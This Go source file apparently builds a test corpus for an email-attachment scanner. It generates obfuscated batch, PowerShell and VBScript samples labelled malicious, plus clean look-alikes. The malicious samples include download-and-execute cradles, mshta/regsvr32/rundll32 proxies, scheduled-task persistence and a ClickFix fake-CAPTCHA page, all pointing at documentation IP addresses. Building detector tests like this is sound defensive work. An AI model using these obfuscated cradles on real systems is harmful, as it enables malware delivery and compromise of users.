package corpus

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"strings"

	"github.com/airlockmail/airlock/verdict"
)

// Family 1 of issue 15: scripts judged on what they would run. Each risky
// sample hides a command line behind the obfuscation of its language
// (batch variables and substrings, carets and quotes; PowerShell
// concatenation, [char] codes, -f, -join, backticks, deflated base64;
// VBScript Chr arithmetic, StrReverse, Replace, loops and Execute), and
// each clean look-alike uses the same constructs for honest work.

// Documentation addresses for this family's "payloads".
const (
	stageURL = "http://198.51.100.23/stage2.ps1"
	dllURL   = "http://198.51.100.23/update.dll"
	htaURL   = "http://203.0.113.44/view.hta"
	msiURL   = "http://203.0.113.44/setup.msi"
)

// RawDeflate is what .NET's DeflateStream reads: deflate without a zlib
// header (deterministic).
func RawDeflate(b []byte) []byte {
	var out bytes.Buffer
	w, _ := flate.NewWriter(&out, flate.BestCompression)
	w.Write(b)
	w.Close()
	return out.Bytes()
}

// crlf turns a multi-line literal into batch/VBScript line ends.
func crlf(s string) []byte { return []byte(strings.ReplaceAll(s, "\n", "\r\n")) }

// batchAlphabet spells word as %A:~i,1% substrings of a variable that
// holds the alphabet, the way batch obfuscators do.
func batchAlphabet(varName, word string) string {
	const abc = "abcdefghijklmnopqrstuvwxyz"
	var b strings.Builder
	for _, r := range word {
		if i := strings.IndexRune(abc, r); i >= 0 {
			b.WriteString("%" + varName + ":~" + itoa(i) + ",1%")
		} else {
			b.WriteRune(r)
		}
	}
	return b.String()
}

// vbShift writes s as a string every character of which is one higher,
// for a VBScript loop to shift back.
func vbShift(s string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteRune(r + 1)
	}
	return strings.ReplaceAll(b.String(), `"`, `""`)
}

func cmdlineSamples() []Sample {
	deflated := base64.StdEncoding.EncodeToString(RawDeflate([]byte(
		"$p = \"$env:TEMP\\svc.exe\"\nInvoke-WebRequest -Uri " + payloadURL + " -OutFile $p\nStart-Process $p\n")))
	var chrCodes []string
	for _, r := range "iex" {
		chrCodes = append(chrCodes, itoa(int(r)))
	}
	return []Sample{
		// --- batch ---
		{Name: "set-split.bat", Want: verdict.Malicious, Why: "batch: PowerShell download cradle spelled out of set variables", Data: crlf(`@echo off
set "a=pow"
set b=ersh
set c=ell
set u=` + stageURL + `
%a%%b%%c% -nop -w hidden -c "iex (New-Object Net.WebClient).DownloadString('%u%')"
`)},
		{Name: "substring.bat", Want: verdict.Malicious, Why: "batch: certutil download and start spelled with %v:~i,1% substrings", Data: crlf(`@echo off
set x=qwzabcdefghijklmnopqrstuvwxyz
set "A=abcdefghijklmnopqrstuvwxyz"
` + batchAlphabet("A", "certutil") + ` -` + batchAlphabet("A", "urlcache") + ` -split -f ` + payloadURL + ` "%TEMP%\upd.exe" >nul
` + batchAlphabet("A", "start") + ` "" "%TEMP%\upd.exe"
`)},
		{Name: "caret-rundll.cmd", Want: verdict.Malicious, Why: "batch: carets and quote tricks hide curl then rundll32 of the fetched DLL", Data: crlf(`@echo off
c^u^r^l -s -o "%PUBLIC%\u.dll" ` + dllURL + `
r^u""n^d^l""l3^2 "%PUBLIC%\u.dll",DllRegisterServer
`)},
		{Name: "conhost-headless.bat", Want: verdict.Malicious, Why: "batch: conhost --headless proxies curl and a silent msiexec of the download", Data: crlf(`@echo off
conhost.exe --headless cmd.exe /c "curl -s -o %LOCALAPPDATA%\s.msi ` + msiURL + ` && msiexec /i %LOCALAPPDATA%\s.msi /qn"
`)},
		{Name: "forfiles-mshta.bat", Want: verdict.Malicious, Why: "batch: forfiles and pcalua as proxies for mshta of a remote HTA", Data: crlf(`@echo off
forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c mshta ` + htaURL + `"
pcalua.exe -a C:\Windows\System32\mshta.exe -c ` + htaURL + `
`)},
		{Name: "replace-var.cmd", Want: verdict.Malicious, Why: "batch: %v:x=y% replacement and delayed expansion build a bitsadmin download that is run", Data: crlf(`@echo off
setlocal enabledelayedexpansion
set t=bitsQQmin
set t=%t:QQ=ad%
set j=/tra
set j=!j!nsfer
!t! !j! upd /download /priority high ` + payloadURL + ` %APPDATA%\upd.exe
"%APPDATA%\upd.exe"
`)},
		{Name: "regsvr-squiblydoo.bat", Want: verdict.Malicious, Why: "batch: regsvr32 runs a remote scriptlet (/i:URL scrobj.dll), hidden in a variable", Data: crlf(`@echo off
set r=regsvr32
set s=/s /n /u /i:http://203.0.113.44/a.sct
%r% %s% scrobj.dll
`)},
		// --- PowerShell ---
		{Name: "concat-format.ps1", Want: verdict.Malicious, Why: "PowerShell: concatenation, -f, member name in a string and &('i'+'ex')", Data: []byte(`$w = New-Object ('Net.' + 'Web' + 'Client')
$m = ("{1}{0}" -f 'String', 'Download')
$u = 'http://198.51.100.23/' + 'stage2.ps1'
&('i' + 'ex') ($w.($m)($u))
`)},
		{Name: "charcodes.ps1", Want: verdict.Malicious, Why: "PowerShell: iex spelled in [char] codes, invoked on a WebClient download", Data: []byte(`$u = "http://198.51.100.23/" + "stage2.ps1"
$c = -join ([char[]](` + strings.Join(chrCodes, ",") + `))
& $c ((New-Object Net.WebClient).DownloadString($u))
`)},
		{Name: "deflate-layer.ps1", Want: verdict.Malicious, Why: "PowerShell: deflated base64 layer that downloads and starts an executable", Data: []byte(`$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('` + deflated + `'))
IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream($s, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
`)},
		{Name: "backtick-bits.ps1", Want: verdict.Malicious, Why: "PowerShell: backticks hide Start-BitsTransfer and the start of the fetched file", Data: []byte("$d = \"$env:APPDATA\\svchelper.exe\"\nSt`art-Bi`tsTr`ansfer -Source " + payloadURL + " -Destination $d\nSt`art-Pro`cess -FilePath $d -WindowStyle Hidden\n")},
		{Name: "env-iex.ps1", Want: verdict.Malicious, Why: "PowerShell: iex picked out of $env:comspec, irm of a script", Data: []byte(`$x = $env:comspec[4,15,25] -join ''
$r = irm ` + stageURL + `
& $x $r
`)},
		{Name: "reverse-join.ps1", Want: verdict.Malicious, Why: "PowerShell: reversed string indexed [-1..-n], -join, then Invoke-Expression", Data: []byte(`$t = '` + reverse("iwr "+stageURL+" -UseBasicParsing | iex") + `'
$cmd = $t[-1..-` + itoa(len("iwr "+stageURL+" -UseBasicParsing | iex")) + `] -join ''
Invoke-Expression $cmd
`)},
		// --- VBScript ---
		{Name: "replace-mshta.vbs", Want: verdict.Malicious, Why: "VBScript: Replace chain builds mshta of a remote HTA", Data: crlf(`Dim a, b
a = "mXXhYY ` + strings.ReplaceAll(htaURL, "t", "~") + `"
a = Replace(a, "XX", "s")
a = Replace(Replace(a, "YY", "ta"), "~", "t")
Set b = CreateObject("WScript.Shell")
b.Run a, 0, False
`)},
		{Name: "strreverse.vbs", Want: verdict.Malicious, Why: "VBScript: StrReverse hides a PowerShell download cradle", Data: crlf(`Dim p
p = StrReverse("` + strings.ReplaceAll(reverse(`powershell -w hidden -c "iwr `+stageURL+` | iex"`), `"`, `""`) + `")
CreateObject("WScript.Shell").Run p, 0
`)},
		{Name: "loop-execute.vbs", Want: verdict.Malicious, Why: "VBScript: a shift loop decodes code that Execute runs (certutil download and start)", Data: crlf(`Dim s, o, i
s = "` + vbShift(`CreateObject("WScript.Shell").Run "cmd /c certutil -urlcache -f `+payloadURL+` %TEMP%\a.exe & start %TEMP%\a.exe", 0`) + `"
o = ""
For i = 1 To Len(s)
  o = o & Chr(Asc(Mid(s, i, 1)) - 1)
Next
Execute o
`)},
		{Name: "chrw-schtasks.vbs", Want: verdict.Malicious, Why: "VBScript: ChrW arithmetic spells schtasks persistence that runs a script from AppData", Data: crlf(`Set sh = CreateObject("WScript.Shell")
t = ChrW(&H73) & ChrW(99) & ChrW(104) & ChrW(50 + 66) & ChrW(97) & ChrW(115) & ChrW(107) & ChrW(115)
sh.Run t & " /create /sc onlogon /tn Sync /tr ""wscript.exe %APPDATA%\sync.vbs"" /f", 0
`)},

		{Name: "start-process-enc.ps1", Want: verdict.Malicious, Why: "PowerShell: Start-Process of a hidden PowerShell whose -EncodedCommand is a cradle", Data: []byte(`$a = '-nop -w hidden -enc ` + PSEncode("iex (irm "+stageURL+")") + `'
Start-Process -FilePath powershell.exe -ArgumentList $a -WindowStyle Hidden
`)},
		{Name: "alias-iex.ps1", Want: verdict.Malicious, Why: "PowerShell: Invoke-Expression behind a harmless-looking alias, fed by Invoke-RestMethod", Data: []byte(`Set-Alias -Name Update-Help2 -Value ('Invoke-' + 'Expression')
Update-Help2 (Invoke-RestMethod -Uri ` + stageURL + `)
`)},
		{Name: "delayed-oneliner.cmd", Want: verdict.Malicious, Why: "batch one-liner: cmd /v delayed expansion assembles mshta of a remote HTA", Data: crlf(`@cmd /v:on /c "set m=ms&&set h=hta&&set u=` + htaURL + `&&!m!!h! !u!"
`)},
		{Name: "clickfix.html", Want: verdict.Malicious, Why: "fake CAPTCHA page copying a hidden PowerShell cradle to the clipboard for Win+R (ClickFix)", Data: []byte(`<!DOCTYPE html><html><head><title>Verify you are human</title></head><body>
<div id="box"><p>To prove you are not a robot: 1. press Win+R  2. press Ctrl+V  3. press Enter</p>
<button id="ok">I'm not a robot</button></div>
<script>
document.getElementById("ok").addEventListener("click", function () {
  var c = "power" + "shell -w h -nop -c \"iex (irm '` + stageURL + `')\"" + " # Cloudflare verification ID 4711";
  navigator.clipboard.writeText(c);
});
</script></body></html>`)},

		// --- clean look-alikes ---
		{Name: "clean-copy-button.html", Want: verdict.Clean, Why: "documentation page with copy-to-clipboard buttons for install commands", Data: []byte(`<!DOCTYPE html><html><head><title>Install</title></head><body>
<h1>Install the tool</h1><pre id="a">winget install Example.Tool</pre><button data-copy="a">Copy</button>
<pre id="b">powershell -Command "Get-FileHash .\tool.zip"</pre><button data-copy="b">Copy</button>
<script>
document.querySelectorAll("button[data-copy]").forEach(function (b) {
  b.onclick = function () { navigator.clipboard.writeText(document.getElementById(b.dataset.copy).textContent); };
});
var tip = "Tip: run " + "powershell -Command Get-Date" + " to check the clock";
</script></body></html>`)},
		{Name: "clean-vars.bat", Want: verdict.Clean, Why: "batch with set variables, substrings and downloads it never runs", Data: crlf(`@echo off
setlocal
set "stamp=%date:~-4,4%%date:~-7,2%%date:~-10,2%"
set out=C:\Backup\%stamp%
set name=report
set name=%name:rep=Rep%
mkdir "%out%"
certutil -hashfile "C:\Data\%name%.xlsx" SHA256 > "%out%\hash.txt"
curl -s -o "%out%\rates.csv" https://www.example.org/rates.csv
xcopy /y /i C:\Data\*.xlsx "%out%\"
echo Backup of %name% done
`)},
		{Name: "clean-housekeeping.cmd", Want: verdict.Clean, Why: "batch housekeeping: forfiles deleting old logs, schtasks query, carets in echo", Data: crlf(`@echo off
echo Cleaning logs ^& temp files
forfiles /p "C:\Logs" /s /m *.log /d -30 /c "cmd /c del @path"
schtasks /query /tn "Backup" > nul 2>&1 || echo Backup task missing
set target=C:\Logs
for %%f in ("%target%\*.tmp") do del "%%f"
`)},
		{Name: "clean-report.ps1", Want: verdict.Clean, Why: "PowerShell report: concatenation, -f, -join, [char] and a download saved, not run", Data: []byte(`$sep = [char]44
$title = 'Monthly' + ' ' + 'Report'
$line = ('{0} - {1}' -f $title, (Get-Date -Format 'yyyy-MM'))
$cols = ('Name', 'Size', 'Owner') -join $sep
Invoke-WebRequest -Uri https://www.example.org/data.zip -OutFile "$env:TEMP\data.zip"
Expand-Archive "$env:TEMP\data.zip" -DestinationPath C:\Reports -Force
Get-ChildItem C:\Reports | ForEach-Object { $_.Name + $sep + $_.Length } | Set-Content C:\Reports\index.csv
Write-Host $line
`)},
		{Name: "clean-config.ps1", Want: verdict.Clean, Why: "PowerShell decoding a base64 settings blob and calling a REST API", Data: []byte(`$raw = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('` + base64.StdEncoding.EncodeToString([]byte(`{"server":"files.example.org","port":443}`)) + `'))
$cfg = $raw | ConvertFrom-Json
$items = Invoke-RestMethod -Uri ("https://{0}/api/items" -f $cfg.server)
$items | Select-Object Name, Id | Format-Table
`)},
		{Name: "clean-installer.ps1", Want: verdict.Clean, Why: "PowerShell admin script starting msiexec on a local package", Data: []byte(`$msi = 'C:\Installers\' + 'Agent.msi'
if (Test-Path $msi) {
    Start-Process msiexec.exe -ArgumentList "/i $msi /qn /norestart" -Wait
}
Get-Service -Name 'Agent*' | Select-Object Status, Name
`)},
		{Name: "clean-open.vbs", Want: verdict.Clean, Why: "VBScript using Chr(34), Replace and StrReverse to open a local text file", Data: crlf(`Option Explicit
Dim sh, p, q
q = Chr(34)
p = Replace("C:\Reports\YEAR.txt", "YEAR", "2026")
p = StrReverse(StrReverse(p))
Set sh = CreateObject("WScript.Shell")
sh.Run "notepad.exe " & q & p & q, 1, False
`)},
		{Name: "clean-mapdrive.vbs", Want: verdict.Clean, Why: "VBScript logon script mapping a share and opening Explorer on it", Data: crlf(`Set net = CreateObject("WScript.Network")
s = "\\files." & "example.org\" & "projects"
net.MapNetworkDrive "P:", s
Set sh = CreateObject("WScript.Shell")
sh.Run "explorer.exe P:\", 1
`)},
		{Name: "clean-execute.vbs", Want: verdict.Clean, Why: "VBScript Execute of a built assignment (a settings loader)", Data: crlf(`Dim cfg, k
cfg = "Timeout = " & Chr(51) & Chr(48)
Execute cfg
WScript.Echo "Timeout is " & Timeout
`)},
	}
}

// reverse returns s backwards.
func reverse(s string) string {
	r := []rune(s)
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	return string(r)
}
